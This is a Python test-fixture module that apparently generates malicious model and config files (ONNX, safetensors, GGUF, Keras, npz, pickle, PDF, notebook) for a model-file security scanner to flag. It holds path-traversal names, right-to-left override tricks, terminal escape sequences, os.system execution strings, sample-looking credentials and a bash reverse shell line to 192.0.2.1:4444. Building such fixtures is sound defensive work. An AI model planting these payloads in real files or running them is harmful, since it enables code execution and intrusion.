"""Tricks published in 2026, and files that passed unsaid before: a name in two forms, a value where a name belongs.

Sources: CVE-2026-34445 (ONNX), CVE-2025-10156 (checksums), CVE-2021-42574 (writing direction).
"""

from __future__ import annotations

import base64
import json
import struct
import zlib

from tests.domain.hostile_models import _npy, _program, _zip, field, gguf_tensors, onnx
from tests.domain.malicious_models import gguf, safetensors


def later() -> dict[str, bytes]:
    """Every file by a name that says what it is."""
    array = _npy("'<f4'", b"\0" * 4)
    plain = _zip({"a.npy": array})
    wrong = plain.replace(struct.pack("<L", zlib.crc32(array)), b"\1\2\3\4")
    half = plain[:14] + b"\1\2\3\4" + plain[18:]
    tensor = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    head = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }".ljust(20_000) + b"\n"

    def external(*pairs: tuple[bytes, bytes]) -> bytes:
        entries = b"".join(field(13, field(1, key) + field(2, value)) for key, value in pairs)
        return onnx(field(5, field(1, 4) + field(2, 1) + field(8, b"w") + entries + field(14, 1)))

    def keras(**layer: object) -> bytes:
        config = {"class_name": "Sequential", "config": {"layers": [layer]}}
        weights = b"\x89HDF\r\n\x1a\n"
        return _zip({"config.json": json.dumps(config).encode(), "metadata.json": b"{}", "model.weights.h5": weights})

    windows = b"MZ" + b"\0" * 58 + struct.pack("<L", 64) + b"PE\0\0"
    files: dict[str, str | bytes] = {
        "attribute.onnx": external((b"location", b"w.bin"), (b"__class__", b"x")),
        "home.onnx": external((b"location", b"~/w.bin")),
        "sum.npz": wrong,
        "sums-differ.npz": half,
        "comment.npz": plain[:-2] + b"\1\0x",
        "long-name.npz": _zip({"a" * 2000 + ".npy": array}),
        "long-header.npy": b"\x93NUMPY\1\0" + struct.pack("<H", len(head)) + head + b"\0" * 4,
        "leaving.safetensors": safetensors({"..\\..\\a": tensor}, b"\0" * 4),
        "nameless.safetensors": safetensors({"": tensor}, b"\0" * 4),
        "backwards.safetensors": safetensors({"a\u202eb": tensor}, b"\0" * 4),
        "dimensions.safetensors": safetensors({"a": tensor | {"shape": [1] * 100}}, b"\0" * 4),
        "spaces.safetensors": safetensors(json.dumps({"a": tensor}).encode() + b" " * 70_000, b"\0" * 4),
        "metadata.safetensors": safetensors({"__metadata__": {"a": "b" * 9_000_000}, "a": tensor}, b"\0" * 4),
        "place.gguf": gguf({"general.architecture": "../../x"}),
        "terminal.gguf": gguf({"general.name": "\x1b]0;x\x07"}),
        "tensor.gguf": gguf_tensors((b"../w", (8,), 0, 0), data=b"\0" * 32),
        "elf.bin": b"\1own" * 200 + b"\x7fELF\2\1\1\0" + b"\0" * 60,
        "windows.bin": b"\1own" * 200 + windows,
        "script.bin": "#!/bin/sh\ntrue\n",
        "script.pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n<</OpenAction<</S/JavaScript/JS(x)>>>>",
        "text.pdf": "%PDF-1.4\n<</S/Launch/F(cmd)>>\n",
        "object.rtf": "{\\rtf1{\\object\\objdata 0105}}",
        "after.txt": "# a card\n# a card\ncos\nsystem\n(Vtrue\ntR.",
        "expression.keras": keras(class_name="Dense", config={"activation": "lambda x: __import__('os').system(x)"}),
        "a/config.json": '{"model_type": "../../x"}',
        "b/config.json": '{"architectures": ["os.system"]}',
        "c/config.json": '{"tokenizer_class": ["os", "system"]}',
        "d/config.json": "{\"activation\": \"__import__('os').system('x')\"}",
        "e/config.json": '{"lc": 1, "type": "constructor", "id": ["os", "system"]}',
        "f/config.json": '{"_attn_implementation_internal": "someone/kernels"}',
        "g/config.json": '{"key": "AKIAIOSFODNN7EXAMPLE"}',
        "h/config.json": '{"api_key": "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA"}',
        "i/config.yaml": "url: postgresql://admin:f9YemNh3vBgsoeJl@db.example.com/x\n",
        "old.py": "key = 'sk-" + "aB3dE5gH7jK9mN1pQ2rS4tU6" * 2 + "'\n",
        "star.py": "from os import *\nsystem('x')\n",
        "decorated.py": "@eval\nclass X: pass\n",
        "model_index.json": '{"_class_name": "../x"}',
        "shell.ipynb": '{"cells": [{"source": ["!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}]}',
        "turned.py": "access = 'user\u202e \u2066# only admins'\n",
        "packed.json": json.dumps({"state": base64.b64encode(_program("true")).decode()}),
        "authorized_keys": "ssh-ed25519 AAAA x\n",
    }
    return {f"later/{name}": data.encode() if isinstance(data, str) else data for name, data in files.items()}
